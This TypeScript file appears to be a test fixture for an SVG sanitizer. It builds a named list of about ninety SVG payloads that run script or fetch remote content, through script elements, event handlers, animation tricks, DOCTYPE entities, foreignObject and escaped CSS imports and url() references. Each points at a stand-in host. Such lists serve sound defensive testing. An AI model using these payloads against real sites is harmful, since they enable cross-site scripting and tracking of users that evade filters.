/** An SVG with something in it that has no place in a drawing. */
export interface Payload {
  name: string;
  text: string;
}

/** Where all payloads lead, or what their scripts ask for. */
const elsewhere = 'https://elsewhere.test';

const run = `fetch('${elsewhere}/ran')`;
const line = '<path d="M0 0h9v7z"/>';

/** An SVG around some content, one line in it. */
export function drawing(content: string, { attributes = '', before = '' } = {}): string {
  return `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${line}${content}</svg>`;
}

const style = (css: string): string => drawing(`<style>${css}</style><rect class="a" width="3" height="3"/>`);
const painted = (declarations: string): string => drawing(`<rect width="3" height="3" style="${declarations}"/>`);
const attribute = (written: string): string => drawing(`<rect width="3" height="3" ${written}/>`);

const svgAsData = `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E`;

/** What an SVG may hold that runs, or fetches something, in all the ways that we know of. */
export const payloads: Payload[] = Object.entries({
  'a script': drawing(`<script>${run}</script>`),
  'a script from a file': drawing(`<script href="${elsewhere}/a.js"/>`),
  'a script with the old kind of address': drawing(`<script xlink:href="${elsewhere}/a.js"/>`),
  'a script of XHTML': drawing(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`),
  'a script of SVG under a prefix': drawing(`<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`),
  'a script in the default namespace of XHTML': drawing(
    `<g xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></g>`,
  ),
  'a script inside a part that is not shown': drawing(`<defs><g><script>${run}</script></g></defs>`),
  'a script in CDATA': drawing(`<script><![CDATA[${run}]]></script>`),
  'a handler for loading': drawing('', { attributes: ` onload="${run}"` }),
  'a handler for a click': attribute(`onclick="${run}"`),
  'a handler in capitals': attribute(`ONLOAD="${run}"`),
  'a handler of an animation': drawing(`<animate attributeName="x" dur="1s" onbegin="${run}"/>`),
  'a handler of a style that has loaded': drawing(`<style onload="${run}">a{}</style>`),
  'a handler of a picture that does not load': drawing(`<image href="data:image/png,x" onerror="${run}"/>`),
  'a handler that is set': drawing(`<set attributeName="onload" to="${run}"/>`),
  'a handler that is animated': drawing(`<animate attributeName="onclick" values="${run}" dur="1s"/>`),
  'a listener of XML Events': drawing(
    `<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="${elsewhere}/#a"/>`,
  ),
  'a handler element': drawing(`<handler type="text/javascript">${run}</handler>`),
  'an address of a script that is set': drawing(
    `<a><set attributeName="href" to="javascript:${run}"/><text>x</text></a>`,
  ),
  'an address of a picture that is set': drawing(
    `<image width="4" height="4"><set attributeName="href" to="${elsewhere}/a.png"/></image>`,
  ),
  'an address that is animated': drawing(
    `<image width="4" height="4"><animate attributeName="xlink:href" values="${elsewhere}/a.png" dur="9s"/></image>`,
  ),
  'an address that is animated, with a space before its name': drawing(
    `<image width="4" height="4"><animate attributeName=" href" values="${elsewhere}/a.png" dur="9s"/></image>`,
  ),
  'a fill that is animated': drawing(
    `<rect width="3" height="3"><animate attributeName="filter" values="url(${elsewhere}/a.svg#b)" dur="9s"/></rect>`,
  ),
  'a whole style that is set': drawing(`<rect><set attributeName="style" to="fill:url(${elsewhere}/a#b)"/></rect>`),
  'a base that is set': drawing(`<set attributeName="xml:base" to="${elsewhere}/"/>`),
  'a page within': drawing(
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/"/></foreignObject>`,
  ),
  'a picture of HTML within': drawing(
    `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/a.png"/></foreignObject>`,
  ),
  'a form within': drawing(
    `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${elsewhere}/"><input autofocus="" onfocus="${run}"/></form></foreignObject>`,
  ),
  'a video': drawing(`<video xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/a.mp4"/>`),
  'an object of HTML': drawing(`<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${elsewhere}/a.svg"/>`),
  'a stylesheet linked as in HTML': drawing(
    `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${elsewhere}/a.css"/>`,
  ),
  'a page that is loaded instead': drawing(
    `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${elsewhere}/"/>`,
  ),
  'a link to a script': drawing(`<a href="javascript:${run}"><text>x</text></a>`),
  'a link elsewhere': drawing(`<a xlink:href="${elsewhere}/"><text>x</text></a>`),
  'a picture from elsewhere': drawing(`<image width="4" height="4" href="${elsewhere}/a.png"/>`),
  'a picture without a scheme': drawing('<image width="4" height="4" href="//elsewhere.test/a.png"/>'),
  'a picture with the old kind of address': drawing(`<image width="4" height="4" xlink:href="${elsewhere}/a.png"/>`),
  'a picture with its own prefix for addresses': drawing(
    `<image xmlns:l="http://www.w3.org/1999/xlink" width="4" height="4" l:href="${elsewhere}/a.png"/>`,
  ),
  'a drawing as data in a picture': drawing(`<image width="4" height="4" href="${svgAsData}"/>`),
  'a drawing as data in a part used again': drawing(`<use href="${svgAsData}#a"/>`),
  'a page as data in a picture': drawing(
    `<image width="4" height="4" href="data:text/html,&lt;img src=${elsewhere}/a&gt;"/>`,
  ),
  'a part from another file': drawing(`<use href="${elsewhere}/a.svg#b"/>`),
  'a part from another file, with the old kind of address': drawing(`<use xlink:href="${elsewhere}/a.svg#b"/>`),
  'a picture in a filter': drawing(
    `<filter id="f"><feImage href="${elsewhere}/a.png"/></filter><rect width="3" height="3" filter="url(#f)"/>`,
  ),
  'a base for all addresses': drawing('<image width="4" height="4" href="#a"/>', {
    attributes: ` xml:base="${elsewhere}/a.svg"`,
  }),
  'a stylesheet before the drawing': drawing('', { before: `<?xml-stylesheet href="${elsewhere}/a.css"?>` }),
  'a stylesheet of XSLT before the drawing': drawing('', {
    before: `<?xml-stylesheet type="text/xsl" href="${elsewhere}/a.xsl"?>`,
  }),
  'a stylesheet after the drawing': `${drawing('')}<?xml-stylesheet href="${elsewhere}/a.css"?>`,
  'a document type from elsewhere': drawing('', { before: `<!DOCTYPE svg SYSTEM "${elsewhere}/a.dtd">` }),
  'an entity that is an element': drawing('&x;', {
    before: `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg' href='${elsewhere}/a.js'/>">]>`,
  }),
  'an entity that is an address': drawing('<image width="4" height="4" href="&x;"/>', {
    before: `<!DOCTYPE svg [<!ENTITY x "${elsewhere}/a.png">]>`,
  }),
  'an attribute that the document type gives': drawing('', {
    before: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>`,
  }),
  'an import': style(`@import "${elsewhere}/a.css";`),
  'an import by url': style(`@import url(${elsewhere}/a.css);`),
  'an import in capitals': style(`@IMPORT "${elsewhere}/a.css";`),
  'an import with an escaped letter': style(`@\\69mport "${elsewhere}/a.css";`),
  'an import with an escaped letter and a space': style(`@\\000069 mport "${elsewhere}/a.css";`),
  'an import after a comment': style(`@import/**/"${elsewhere}/a.css";`),
  'an import between comments of XML': style(`@im<!-- -->port "${elsewhere}/a.css";`),
  'an import around CDATA': style(`@im<![CDATA[port "${elsewhere}/a.css";]]>`),
  'an import around an element': style(`@im<g/>port "${elsewhere}/a.css";`),
  'an import written in numbers': style(`&#64;import "${elsewhere}/a.css";`),
  'an import in an entity': drawing('<style>&x;</style>', {
    before: `<!DOCTYPE svg [<!ENTITY x "@import '${elsewhere}/a.css';">]>`,
  }),
  'an import that only two styles together make': drawing(
    `<style>.b{fill:red}@im</style><style>port "${elsewhere}/a.css";</style><rect class="b"/>`,
  ),
  'a typeface from elsewhere': style(
    `@font-face{font-family:f;src:url(${elsewhere}/f.woff2)}text{font-family:f}`,
  ).replace('<rect', '<text y="5">x</text><rect'),
  'a background': style(`svg{background:url(${elsewhere}/a.png)}`),
  'a background by image-set': style(`svg{background-image:image-set("${elsewhere}/a.png" 1x)}`),
  'a background by the older image-set': style(`svg{background-image:-webkit-image-set(url(${elsewhere}/a.png) 1x)}`),
  'a background by src': style(`svg{background-image:src("${elsewhere}/a.png")}`),
  'a background by image': style(`svg{background-image:image("${elsewhere}/a.png")}`),
  'a background by cross-fade': style(`svg{background-image:cross-fade(url(${elsewhere}/a.png),red)}`),
  'a background with an escaped url': style(`svg{background:u\\72l(${elsewhere}/a.png)}`),
  'a background in a group for some screens': style(`@media all{svg{background:url(${elsewhere}/a.png)}}`),
  'a background in steps': style(`@keyframes k{from{background-image:url(${elsewhere}/a.png)}}svg{animation:k 9s}`),
  'a background in a variable': style(`svg{--b:url(${elsewhere}/a.png);background:var(--b)}`),
  'a picture as content': style(`rect::before{content:url(${elsewhere}/a.png)}`),
  'a pointer': style(`svg{cursor:url(${elsewhere}/a.png),auto}`),
  'a namespace that looks like an import': style(`@namespace url(${elsewhere}/);`),
  'a rule for documents': style(`@document url(${elsewhere}/){}`),
  'a paint from elsewhere': attribute(`fill="url(${elsewhere}/a.svg#b)"`),
  'a paint with a second choice': attribute(`fill="url(#a) url(${elsewhere}/a.svg#b)"`),
  'a paint with a line break': attribute(`fill="url(&#10;'${elsewhere}/a.svg#b')"`),
  'a paint in capitals': attribute(`fill="URL(${elsewhere}/a.svg#b)"`),
  'a paint with an escaped url': attribute(`fill="u\\72l(${elsewhere}/a.svg#b)"`),
  'a paint with all letters escaped': attribute(`mask="\\75\\72\\6c('${elsewhere}/a.svg#b')"`),
  'a paint written in numbers': attribute(`filter="&#117;rl(${elsewhere}/a.svg#b)"`),
  'a mask by image-set': attribute(`mask="image-set('${elsewhere}/a.png' 1x)"`),
  'a mask in a style': painted(`mask:url(${elsewhere}/a.svg#b)`),
  'a mask by src in a style': painted(`mask:src('${elsewhere}/a.png')`),
  'a mask with an escaped function in a style': painted(`mask-image:image\\2dset('${elsewhere}/a.png' 1x)`),
  'a filter in a style': painted(`filter:url('${elsewhere}/a.svg#b')`),
  'a shape in a style': painted(`clip-path:url(&quot;${elsewhere}/a.svg#b&quot;)`),
  'a marker in a style': drawing(`<path d="M0 0h3" style="marker-start:url(${elsewhere}/a.svg#b)"/>`),
  'a pointer in an attribute': attribute(`cursor="url(${elsewhere}/a.png), auto"`),
}).map(([name, text]) => ({ name, text }));
